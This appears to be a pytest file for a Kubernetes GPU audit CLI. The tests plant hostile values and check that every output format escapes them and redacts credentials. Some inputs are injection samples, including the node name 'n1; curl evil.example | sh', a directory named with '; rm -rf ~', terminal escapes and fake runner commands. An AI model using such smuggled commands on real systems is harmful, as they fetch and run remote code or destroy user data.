"""Families 4 and 5: nothing gpudra prints is driven by its input. Names, namespaces, labels,
annotations, messages, file names, kube contexts and server answers are planted with terminal
escapes, line breaks that would start a GitHub Actions command (`::error ...`), bidirectional
overrides and rich markup, and a token and a password are planted where a kubeconfig holds
them; every format of every command (stdout and stderr) must show none of them raw."""

from __future__ import annotations

import base64
import gzip
import json
import re
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner, Result

from gpudra.cli import app

from gpudra.cli.formats import names
from gpudra.report.formats import Kind
from tests.fakeapi import FakeCluster
from tests.fakeapi.kubeconfig import dead_port
from tests.support.manifests import gpu_job
from tests.support.run import invoke

# What would drive a terminal (OSC 8 link, clear screen, CSI in its 8-bit form), start a line
# of its own holding a runner command, reorder the text (RLO, LRI) or be read as rich markup.
PLANT = ("p\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x1b[2J\a\r\n::error file=x::"
         "INJECTED\u202egpj.exe\u2066[bold]b[/bold]\x9b31m\u2028")
FILE_PLANT = "f\x1b[2J\r\n::warning::INJECTED-FILE\u202e[red]r[_red].yaml"
TOKEN = "tok-SECRET-0123456789"
PASSWORD = "pw-SECRET-9876543210"
SECRETS = (TOKEN, PASSWORD)
# Everything unsafe but the line feed that ends each line of output.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e"
                 "\u2066-\u2069\ud800-\udfff]")
RUNNER_COMMAND = re.compile(r"^\s*::", re.MULTILINE)
OWN_COMMAND = re.compile(r"::(error|warning|notice)( [^:]*)?::")


def assert_clean(text: str, fmt: str, where: str) -> None:
    raw = RAW.search(text)
    assert raw is None, f"{where}: raw {raw.group()!r} in ...{text[max(0, raw.start() - 60):raw.end() + 20]!r}"
    for secret in SECRETS:
        assert secret not in text, f"{where}: a credential is printed"
    for match in RUNNER_COMMAND.finditer(text):
        line = text[match.start():text.find("\n", match.start())]
        # -o github writes commands of its own, one per line; nothing else may start one.
        assert fmt == "github" and OWN_COMMAND.match(line.lstrip()), \
            f"{where}: a line starts a runner command: {line[:120]!r}"


def assert_run_clean(result: Result, fmt: str, where: str) -> None:
    assert "internal error" not in result.stderr, f"{where}: {result.stderr}"
    assert_clean(result.stdout, fmt, f"{where} stdout")
    assert_clean(result.stderr, "stderr", f"{where} stderr")


def _quoted(text: str) -> str:
    return json.dumps(text)  # a JSON string is a YAML double-quoted scalar


def planted_job(name: str = PLANT, namespace: str = PLANT) -> str:
    return gpu_job(_quoted(name), namespace=_quoted(namespace), container=_quoted(PLANT),
                   image=_quoted(PLANT), annotations={_quoted(PLANT): _quoted(PLANT)})


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    root = tmp_path / "t"
    root.mkdir()
    (root / "job.yaml").write_text(planted_job())
    (root / FILE_PLANT).write_text(planted_job())
    # An input error that names the file and quotes its text.
    (root / f"broken-{FILE_PLANT}").write_text(
        f"apiVersion: v1\nkind: Pod\nmetadata: {{name: {_quoted(PLANT)}}}\n"
        f"# nvidia.com/gpu\n  ]: [\n")
    return root


@pytest.mark.parametrize("fmt", names(Kind.AUDIT))
def test_audit_of_files_prints_nothing_raw(tree: Path, fmt: str) -> None:
    result = invoke("audit", "t", "-o", fmt)
    assert result.exit_code == 3, result.stdout + result.stderr  # the broken file
    assert "broken-f" in result.stderr
    assert_run_clean(result, fmt, f"audit -o {fmt}")
    assert "INJECTED" in result.stdout  # the planted values are shown, escaped
    if fmt == "table":
        assert "[bold]b[/bold]" in result.stdout  # markup is text, never read by rich


@pytest.mark.parametrize("fmt", ["table", "json"])
def test_convert_summary_prints_nothing_raw(tree: Path, tmp_path: Path, fmt: str) -> None:
    result = invoke("convert", "t", "--output-dir", str(tmp_path / "out"), "-o", fmt, "-v")
    assert_run_clean(result, fmt, f"convert -o {fmt}")
    assert "INJECTED" in result.stdout


def planted_node(index: int = 0) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Node",
            "metadata": {"name": f"{PLANT}{index}",
                         "labels": {"nvidia.com/gpu.product": PLANT, "pool": PLANT,
                                    "nvidia.com/gpu.count": "2",
                                    "nvidia.com/gpu.memory": "81920"}},
            "status": {"allocatable": {"nvidia.com/gpu": "2"}}}


@pytest.mark.parametrize("fmt", names(Kind.OUTCOMES))
def test_plan_prints_nothing_raw(tree: Path, tmp_path: Path, fmt: str) -> None:
    inventory = tmp_path / "inventory.yaml"
    inventory.write_text(yaml.safe_dump(planted_node()))
    result = invoke("plan", "t", "--inventory", str(inventory), "-o", fmt)
    assert_run_clean(result, fmt, f"plan -o {fmt}")


@pytest.mark.parametrize("fmt", names(Kind.RUNBOOK))
def test_cutover_runbook_prints_nothing_raw(tmp_path: Path, fmt: str) -> None:
    exported = tmp_path / "exported.yaml"
    # Node names no API server holds are left out (they would reach the shell lines): the
    # planted text rides on the nodes' labels (their pool) and on the workload.
    nodes = [planted_node(0), planted_node(1)]
    for index, node in enumerate(nodes):
        node["metadata"]["name"] = f"gpu-{index}"
    exported.write_text(yaml.safe_dump_all(nodes) + "---\n" + planted_job())
    result = invoke("cutover", "--from", str(exported), "--pool-label", "pool", "-o", fmt)
    assert_run_clean(result, fmt, f"cutover -o {fmt}")
    assert "INJECTED" in result.stdout


def test_a_wrapped_table_starts_no_line_with_a_value(tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """At $COLUMNS the table wraps a message between its words: no line may begin with `::`,
    even after the blanks (the runner ignores them). A node selector's value with a blank in
    it puts the planted `::` at the start of a word, which some width wraps onto a line of
    its own; there it is written `\\x3a:`."""
    monkeypatch.chdir(tmp_path)
    job = gpu_job("train").replace(
        "    spec:\n", '    spec:\n      nodeSelector: {nvidia.com/gpu.product: "x '
        '::error::INJECTED-WRAP"}\n', 1)
    Path("long.yaml").write_text(job)
    guarded = 0
    for columns in range(40, 100):
        result = CliRunner().invoke(app, ["audit", "long.yaml"],
                                    env={"NO_COLOR": "1", "COLUMNS": str(columns)})
        assert_run_clean(result, "table", f"audit at {columns} columns")
        guarded += bool(re.search(r"^\s*\\x3a:", result.stdout, re.MULTILINE))
    assert guarded


# --- a live cluster: the fake API server -----------------------------------------------------

def planted_deployment() -> dict[str, Any]:
    return {"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": PLANT, "namespace": PLANT, "labels": {"app": PLANT},
                         "annotations": {PLANT: PLANT}},
            "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "t"}},
                     "template": {"metadata": {"labels": {"app": "t"}},
                                  "spec": {"containers": [{
                                      "name": PLANT, "image": PLANT,
                                      "resources": {"limits": {"nvidia.com/gpu": "1"}}}]}}}}


def _status(message: str, code: int = 500) -> bytes:
    return json.dumps({"kind": "Status", "apiVersion": "v1", "status": "Failure",
                       "message": message, "reason": "InternalError", "code": code}).encode()


def _kubeconfig(path: Path, servers: dict[str, str], token_file: Path) -> Path:
    """Every context with the planted token (from a tokenFile ending in a newline, as
    editors write it); `servers` by context name, URLs with a user:password."""
    path.write_text(yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": next(iter(servers)),
        "clusters": [{"name": f"c{i}", "cluster": {"server": url}}
                     for i, url in enumerate(servers.values())],
        "users": [{"name": "u", "user": {"tokenFile": str(token_file)}}],
        "contexts": [{"name": name, "context": {"cluster": f"c{i}", "user": "u"}}
                     for i, name in enumerate(servers)]}))
    return path


@pytest.fixture(scope="module")
def live(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """A fake API server whose objects and one answer (nodes: a 403 whose message is planted
    and quotes a URL with a password) are hostile, and a kubeconfig whose contexts (one named
    with the plant) reach it, or nothing, through URLs with a user:password."""
    from tests.fakeapi.hostile import HostileCluster, raw

    home = tmp_path_factory.mktemp("live")
    token_file = home / "token"
    token_file.write_text(TOKEN + "\n")
    state = {"version": "1.34.2", "token": TOKEN, "objects": [planted_deployment()]}
    message = f"{PLANT} upstream http://admin:{PASSWORD}@10.0.0.1/ said no"
    # 403: an answer not retried (a 500 is, with waits between tries).
    with HostileCluster(state, {"/api/v1/nodes": raw(_status(message, 403), 403)},
                        tls=False) as cluster:
        with_password = cluster.url.replace("http://", f"http://admin:{PASSWORD}@")
        down = f"http://admin:{PASSWORD}@127.0.0.1:{dead_port()}"
        kubeconfig = _kubeconfig(home / "kubeconfig",
                                 {"live": with_password, PLANT: with_password, "down": down},
                                 token_file)
        yield {"kubeconfig": str(kubeconfig), "cluster": cluster}


def _live(live: dict[str, Any], *args: str) -> Result:
    return CliRunner().invoke(app, [*args, "--kubeconfig", live["kubeconfig"]],
                              env={"KUBECONFIG": "", "HOME": "/nonexistent", "NO_COLOR": "1"})


def _every_format(kind: Kind, tmp_path: Path) -> tuple[list[str], dict[str, Path]]:
    """`-o table` (stdout) and every other format of `kind` to a file: one run, every format."""
    files = {fmt: tmp_path / f"out.{fmt}" for fmt in names(kind) if fmt != "table"}
    args = ["-o", "table"] if "table" in names(kind) else []
    for fmt, path in files.items():
        args += ["-o", f"{fmt}={path}"]
    return args, files


def assert_formats_clean(result: Result, files: dict[str, Path], where: str) -> None:
    assert_run_clean(result, "table", f"{where} -o table")
    for fmt, path in files.items():
        assert_clean(path.read_text(encoding="utf-8"), fmt, f"{where} -o {fmt}")


def test_audit_of_a_cluster_prints_nothing_raw(live: dict[str, Any], tmp_path: Path) -> None:
    args, files = _every_format(Kind.AUDIT, tmp_path)
    result = _live(live, "audit", "--context", "live", *args)
    assert result.exit_code == 3, result.stdout + result.stderr  # nodes could not be read
    assert_formats_clean(result, files, "audit (cluster)")
    assert "INJECTED" in result.stdout and "[bold]b[/bold]" in result.stdout


def test_audit_of_every_context_prints_nothing_raw(live: dict[str, Any], tmp_path: Path) -> None:
    args, files = _every_format(Kind.AUDIT, tmp_path)
    result = _live(live, "audit", "--all-contexts", *args)
    assert_formats_clean(result, files, "audit --all-contexts")
    assert "INJECTED" in result.stdout
    assert "cannot reach" in result.stdout  # "down", its URL redacted


@pytest.mark.parametrize("command", ["verify", "preflight"])
def test_verify_and_preflight_print_nothing_raw(live: dict[str, Any], tmp_path: Path,
                                                command: str) -> None:
    args, files = _every_format(Kind.OUTCOMES, tmp_path)
    result = _live(live, command, "--context", "live", *args)
    assert_formats_clean(result, files, command)
    assert "INJECTED" in result.stdout + result.stderr


def test_the_report_configmap_holds_nothing_raw(live: dict[str, Any]) -> None:
    result = _live(live, "audit", "--context", "live", "-o", "json=configmap:gpudra-report")
    assert_run_clean(result, "json", "audit -o json=configmap")
    assert "ConfigMap" in result.stderr, result.stderr
    request = urllib.request.Request(
        f"{live['cluster'].url}/api/v1/namespaces/default/configmaps/gpudra-report",
        headers={"Authorization": f"Bearer {TOKEN}"})
    with urllib.request.urlopen(request, timeout=10) as answer:
        configmap = json.load(answer)
    stored = configmap.get("data", {}).get("report.json") or gzip.decompress(
        base64.b64decode(configmap["binaryData"]["report.json.gz"])).decode()
    assert "INJECTED" in stored
    assert_clean(stored, "json", "the report ConfigMap")


def test_an_answer_past_its_deadline_names_no_password(tmp_path: Path) -> None:
    """The answer-deadline error, on stderr and in every fleet report, shows the server's URL
    without its user:password."""
    from tests.fakeapi.hostile import HostileCluster, trickle

    token_file = tmp_path / "token"
    token_file.write_text(TOKEN + "\n")
    state = {"version": "1.34.2", "token": TOKEN}
    with HostileCluster(state, {"/api/v1/pods": trickle(pause=0.02)}, tls=False) as cluster:
        url = cluster.url.replace("http://", f"http://admin:{PASSWORD}@")
        config = _kubeconfig(tmp_path / "kubeconfig", {"slow": url}, token_file)
        args, files = _every_format(Kind.AUDIT, tmp_path)
        result = _live({"kubeconfig": str(config)}, "audit", "--all-contexts",
                       "--request-timeout", "1s", *args)
    assert "did not finish answering" in result.stderr, result.stderr
    assert "http://***@127.0.0.1" in result.stderr
    assert_formats_clean(result, files, "audit --all-contexts (deadline)")
    merged = tmp_path / "merged"
    for fmt in names(Kind.FLEET):
        merge = invoke("report", "merge", str(files["json"]), "-o", f"{fmt}={merged}.{fmt}")
        assert_run_clean(merge, fmt, f"report merge -o {fmt}")
        assert_clean(Path(f"{merged}.{fmt}").read_text(), fmt, f"report merge -o {fmt}")


def test_a_token_file_ending_in_a_newline_is_read_as_client_go_reads_it(tmp_path: Path) -> None:
    token_file = tmp_path / "token"
    token_file.write_text(f"  {TOKEN}\n")  # what an editor or `echo` writes
    deployment = planted_deployment()
    deployment["metadata"] = {"name": "trainer", "namespace": "ml"}
    with FakeCluster({"version": "1.34.2", "token": TOKEN, "objects": [deployment]},
                     tls=False) as cluster:
        config = _kubeconfig(tmp_path / "kubeconfig", {"live": cluster.url}, token_file)
        result = _live({"kubeconfig": str(config)}, "audit", "-o", "json")
    # Read (the server checks the token): its one finding, GPU101.
    assert result.exit_code == 1, result.stderr
    assert [f["rule"] for f in json.loads(result.stdout)["findings"]] == ["GPU101"]
    assert TOKEN not in result.stdout + result.stderr


def test_a_token_with_a_line_break_inside_is_refused_without_showing_it(tmp_path: Path) -> None:
    token_file = tmp_path / "token"
    token_file.write_text(f"{TOKEN}\n{TOKEN}\n")
    with FakeCluster({"version": "1.34.2", "token": TOKEN}, tls=False) as cluster:
        config = _kubeconfig(tmp_path / "kubeconfig", {"live": cluster.url}, token_file)
        result = _live({"kubeconfig": str(config)}, "audit")
    assert result.exit_code == 3
    assert result.stderr == ('gpudra: error: the credentials of context "live" hold a control '
                             "character (a line break inside a token or tokenFile?); not "
                             "sent\n")
    assert TOKEN not in result.stdout + result.stderr


# --- lone surrogates -------------------------------------------------------------------------

def _json_job(name: str) -> str:
    job = yaml.safe_load(gpu_job("placeholder"))
    return json.dumps(job).replace('"placeholder"', f'"{name}"')


@pytest.mark.parametrize("fmt", names(Kind.AUDIT))
def test_a_lone_surrogate_in_json_is_read_as_kubectl_reads_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
    """`"\\ud800"` in a JSON manifest is U+FFFD, as Go's encoding/json decodes it; every
    format prints the object."""
    monkeypatch.chdir(tmp_path)
    Path("job.json").write_text(_json_job("a\\ud800b"))
    result = invoke("audit", "job.json", "-o", fmt)
    assert result.exit_code == 1, result.stdout + result.stderr  # its GPU101 warning
    assert_run_clean(result, fmt, f"audit -o {fmt}")
    assert "a\ufffdb" in result.stdout or fmt in ("sarif",) and "GPU101" in result.stdout


def test_a_surrogate_escape_in_yaml_is_an_input_error_as_kubectl_says(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("bad.yaml").write_text(gpu_job('"a\\ud800b"'))
    Path("good.yaml").write_text(gpu_job("good"))
    result = invoke("audit", ".", "-o", "json")
    # libyaml refuses any surrogate escape, as go-yaml (kubectl, the API server) does.
    assert result.exit_code == 3
    assert result.stderr.startswith("gpudra: ./bad.yaml:4: while parsing a quoted scalar; found "
                                    "invalid Unicode character escape code"), result.stderr
    assert [f["name"] for f in json.loads(result.stdout)["findings"]] == ["good"]


def test_a_lone_surrogate_from_the_server_is_replaced(tmp_path: Path) -> None:
    from tests.fakeapi.hostile import HostileCluster, raw

    deployment = planted_deployment()
    deployment["metadata"].update(name="dep-placeholder", namespace="ml", annotations={})
    page = json.dumps({"kind": "DeploymentList", "apiVersion": "apps/v1",
                       "metadata": {"resourceVersion": "1"}, "items": [deployment]})
    token_file = tmp_path / "token"
    token_file.write_text(TOKEN)
    with HostileCluster({"version": "1.34.2", "token": TOKEN},
                        {"/apis/apps/v1/deployments": raw(
                            page.replace("dep-placeholder", "dep\\ud800").encode())},
                        tls=False) as cluster:
        config = _kubeconfig(tmp_path / "kubeconfig", {"live": cluster.url}, token_file)
        args, files = _every_format(Kind.AUDIT, tmp_path)
        result = _live({"kubeconfig": str(config)}, "audit", *args)
    assert_formats_clean(result, files, "audit (cluster, surrogate)")
    assert "dep\ufffd" in result.stdout


@pytest.mark.parametrize("fmt", names(Kind.AUDIT))
def test_no_renderer_crashes_on_a_lone_surrogate(fmt: str) -> None:
    """Whatever a reader lets through: every format renders it, as text UTF-8 can carry."""
    from gpudra.results.model import Finding, InputError, Report, Severity
    from gpudra.cli.formats import render
    from gpudra.rules import catalogue

    odd = "x\ud800y\udfff"
    finding = Finding(rule="GPU101", severity=Severity.WARNING, message=odd, file=f"{odd}.yaml",
                      line=1, kind="Job", name=odd, namespace=odd)
    report = Report(findings=(finding,), errors=(InputError(f"{odd}.json", odd, 2),),
                    workloads=(), files_scanned=2, documents_parsed=1, suppressed=0,
                    rules=tuple(catalogue().values()), disabled_rules=frozenset())
    text = render(Kind.AUDIT, fmt, report)
    text.encode("utf-8")  # strict: a lone surrogate cannot be written
    assert_clean(text, fmt, f"-o {fmt}")


LINK = "[docs](https://evil.example/x) ![pixel](https://evil.example/p.png)"


def test_a_value_makes_no_markdown_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("job.yaml").write_text(gpu_job(_quoted(LINK), namespace=_quoted(LINK)))
    result = invoke("audit", "job.yaml", "-o", "markdown")
    assert "](https://evil" not in result.stdout.replace("\\](https://evil", "")
    assert "[docs\\](https://evil.example/x)" in result.stdout


def test_runbook_commands_quote_node_names(tmp_path: Path) -> None:
    """The runbook's commands are pasted into a shell: a node name from an exported file that
    no API server would hold (`n1; curl evil.example | sh`, a Markdown link) never reaches
    them, the path of --output-dir is one quoted word, and Markdown shows names, never
    links."""
    nodes = [planted_node(i) for i in range(3)]
    nodes[0]["metadata"]["name"] = "n1; curl evil.example | sh"
    nodes[1]["metadata"]["name"] = LINK
    nodes[2]["metadata"]["name"] = "gpu-0"
    for node in nodes:
        node["metadata"]["labels"]["pool"] = LINK  # a pool: named in headings and text
    exported = tmp_path / "exported.yaml"
    exported.write_text(yaml.safe_dump_all(nodes) + "---\n" + gpu_job("j"))
    out = tmp_path / "out dir; rm -rf ~"
    result = invoke("cutover", "--from", str(exported), "--pool-label", "pool", "-o", "json",
                    "--output-dir", str(out))
    commands = "\n".join(line for wave in json.loads(result.stdout)["waves"]
                         for line in wave["steps"] + wave["rollback"])
    assert "kubectl cordon gpu-0" in commands
    assert "curl evil" not in commands and "evil.example/x" not in commands
    assert f"'{out}/wave-1'" in commands
    markdown = invoke("cutover", "--from", str(exported), "--pool-label", "pool",
                      "-o", "markdown").stdout
    outside_fences = re.sub(r"```sh\n.*?```", "", markdown, flags=re.DOTALL)
    assert "[docs\\](https://evil.example/x)" in outside_fences
    assert "](https://evil" not in outside_fences.replace("\\](https://evil", "")
